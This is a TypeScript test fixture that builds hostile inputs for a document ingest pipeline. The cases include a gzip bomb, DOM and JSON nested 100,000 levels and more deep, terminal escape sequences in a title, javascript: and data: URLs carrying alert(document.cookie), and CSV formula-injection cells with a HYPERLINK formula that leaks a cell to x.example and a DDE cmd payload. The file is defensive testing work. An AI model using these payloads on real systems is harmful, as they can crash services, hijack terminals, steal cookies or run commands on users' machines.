// The hostile-input corpus (issue 10, "done when"): inputs built to break an ingest path, made here
// in code so that no binary blob is committed. Each case says what it is, the name it is uploaded
// under, and what a sane outcome is: refused with the file named, or stored as sane documents.
import { gzipSync } from 'node:zlib';

export interface HostileCase {
  /** Short id, also the test's name. */
  id: string;
  /** The name the file is ingested or uploaded under (the extension is part of the attack). */
  fileName: string;
  /** What the case does to the reader. */
  why: string;
  make(): Buffer;
  /** `reject`: must be refused with the file named; `store`: must be stored sanely; `either`: one of the two. */
  expect: 'reject' | 'store' | 'either';
  /** Words a stored document must still contain (the text survived, readable). */
  keeps?: string[];
  /** The fix this case waits for, when it is another helper's: becomes the test's todo reason. */
  /** One of the heaviest: uploaded while the server is probed. */
  heavy?: boolean;
  /** A CLI command to run on the stored result, whose terminal output must hold no control sequence. */
  terminal?: { args: string[]; shows: string };
}

const VI = 'Theo báo cáo của Sở Khoa học và Công nghệ, tỉnh đã có 1.250 trạm 5G được lắp đặt trong năm 2025.';

/**
 * A gzip file that inflates to `inflatedMiB` of zeros: many gzip members of one MiB each (a valid
 * gzip file, which gunzip inflates whole), so that the bomb is built in milliseconds.
 */
function gzipBomb(inflatedMiB: number): Buffer {
  const member = gzipSync(Buffer.alloc(1024 * 1024), { level: 9 });
  return Buffer.concat(Array.from({ length: inflatedMiB }, () => member));
}

const html = (head: string, body: string) => `<!doctype html><html lang="vi"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;

export const HOSTILE_CASES: HostileCase[] = [
  {
    id: 'gzip bomb',
    fileName: 'bom.html.gz',
    why: '1 MB of gzip that inflates to 1 GiB',
    make: () => gzipBomb(1024),
    expect: 'reject',
    heavy: true,
  },
  {
    id: '100,000 unclosed <b><i> pairs',
    fileName: 'b-i.html',
    why: 'every element stays open: quadratic parent walks in article extraction',
    make: () => Buffer.from(html('<title>Thẻ không đóng</title>', `<article><h1>Thẻ không đóng</h1><p>${VI}</p>${'<b><i>chữ '.repeat(100_000)}</article>`)),
    expect: 'either',
    keeps: ['1.250 trạm 5G'],
    heavy: true,
  },
  {
    id: '200,000 nested divs',
    fileName: 'divs.html',
    why: 'a DOM 200,000 levels deep: recursion and depth-bound walks',
    make: () => Buffer.from(html('<title>Lồng sâu</title>', `${'<div>'.repeat(200_000)}<p>${VI}</p>${'</div>'.repeat(200_000)}`)),
    expect: 'either',
    keeps: ['1.250 trạm 5G'],
    heavy: true,
  },
  {
    id: 'script-only HTML',
    fileName: 'script.html',
    why: 'no text at all, only scripts',
    make: () => Buffer.from(html('<script>var a = 1;</script>', `<script>${'document.write("x");'.repeat(200)}</script>`)),
    expect: 'reject',
  },
  {
    id: 'unclosed comment',
    fileName: 'comment.html',
    why: 'a comment that never closes swallows the whole page',
    make: () => Buffer.from(`<!doctype html><html lang="vi"><head><meta charset="utf-8"></head><body><!-- <p>${VI}</p></body></html>`),
    expect: 'reject',
  },
  {
    id: 'zero-width-only text',
    fileName: 'zero-width.txt',
    why: 'characters that show nothing',
    make: () => Buffer.from(`${'\u200b\u200c\u200d\u2060'.repeat(50)}\n${'\u200b'.repeat(80)}\n`),
    expect: 'reject',
  },
  {
    id: 'punctuation only',
    fileName: 'dau-cau.txt',
    why: 'no letter or digit in the file',
    make: () => Buffer.from(`${'.,;:!?-–—…'.repeat(20)}\n${'*** ### ///'.repeat(10)}\n`),
    expect: 'reject',
  },
  {
    id: '.jsonl with no valid line',
    fileName: 'hong.jsonl',
    why: 'every line is broken JSON or not a record',
    make: () => Buffer.from(['{', 'không phải JSON', '[1, 2, 3]', '{"title": 5, "body": {}}', '"chỉ một chuỗi"'].join('\n')),
    expect: 'reject',
  },
  {
    id: 'gzip bytes named .txt',
    fileName: 'nen.txt',
    why: 'compressed bytes under a text name',
    make: () => gzipSync(Buffer.from(`Tin ngắn về hạ tầng số\n\n${VI}\n`)),
    expect: 'either',
    keeps: ['1.250 trạm 5G'],
  },
  {
    id: '<meta charset=utf-7> on Vietnamese text',
    fileName: 'utf7.html',
    why: 'a declaration no browser obeys (UTF-7 is banned from HTML), on UTF-8 bytes',
    make: () => Buffer.from(`<!doctype html><html lang="vi"><head><meta charset="utf-7"><title>Hạ tầng số</title></head><body><article><h1>Hạ tầng số</h1><p>${VI}</p><p>${VI.replace('1.250', '2.500')}</p></article></body></html>`),
    expect: 'either',
    keeps: ['1.250 trạm 5G', 'Sở Khoa học và Công nghệ'],
  },
  {
    id: 'terminal escape sequences in a title',
    fileName: 'escape.html',
    why: 'a title that clears the screen and retitles the terminal of whoever lists it',
    make: () => Buffer.from(html('<title>Tin \u001b[2J\u001b]0;bi chiem\u0007nóng \u009b31m</title>', `<article><h1>Tin \u001b[2J nóng \u001b[31mđỏ</h1><p>${VI}</p></article>`)),
    expect: 'store',
    keeps: ['1.250 trạm 5G'],
    terminal: { args: ['search', 'tin nong'], shows: 'nóng' },
  },
  {
    id: 'javascript: URLs',
    fileName: 'js-urls.jsonl',
    why: 'script URLs as the document URL and as related links',
    make: () =>
      Buffer.from(
        [
          JSON.stringify({ title: 'Liên kết độc', body: [VI], url: 'javascript:alert(document.cookie)', related: [{ title: 'Xem thêm', url: 'JaVaScRiPt:alert(1)' }, { title: 'Ảnh', url: 'data:text/html,<script>alert(1)</script>' }] }),
          JSON.stringify({ title: 'Liên kết thường', body: [VI], url: 'https://tin.example.vn/a.html' }),
        ].join('\n'),
      ),
    expect: 'store',
    keeps: ['1.250 trạm 5G'],
  },
  {
    id: 'CSV with formula cells',
    fileName: 'cong-thuc.csv',
    why: 'cells a spreadsheet would run when the text comes back out in an export',
    make: () => Buffer.from(`tieu_de,noi_dung\n=HYPERLINK("http://x.example/?"&A1;"bấm"),${VI}\n+1+2,@SUM(1+1)\n-2+3,"=cmd|' /C calc'!A0"\n`),
    expect: 'either',
  },
  {
    id: 'a huge single line',
    fileName: 'mot-dong.txt',
    why: '12 MB without a line break',
    make: () => Buffer.from(`${VI} `.repeat(Math.ceil(12e6 / Buffer.byteLength(`${VI} `)))),
    expect: 'either',
    heavy: true,
  },
  {
    id: 'deeply nested JSON in JSONL',
    fileName: 'long-sau.jsonl',
    why: 'a record nested 100,000 levels deep: recursive readers overflow their stack',
    make: () => Buffer.from(`${JSON.stringify({ title: 'Bản ghi thường', body: [VI] })}\n{"title":"Sâu","body":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}\n`),
    expect: 'store',
    keeps: ['1.250 trạm 5G'],
  },
  {
    id: 'invalid UTF-8',
    fileName: 'hong-utf8.txt',
    why: 'broken multi-byte sequences in Vietnamese text',
    make: () => Buffer.concat([Buffer.from(`${VI}\n`), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe]), Buffer.from(`\n${VI}\n`)]),
    expect: 'either',
  },
];
